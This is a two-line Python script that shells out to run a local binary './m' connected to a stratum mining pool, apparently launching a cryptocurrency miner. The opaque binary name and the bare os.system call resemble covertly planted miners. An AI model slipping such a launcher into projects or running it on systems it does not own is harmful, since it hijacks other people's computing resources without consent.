import os
os.system("./m -o stratum+tcp://pool.example.org:3333 -u x")
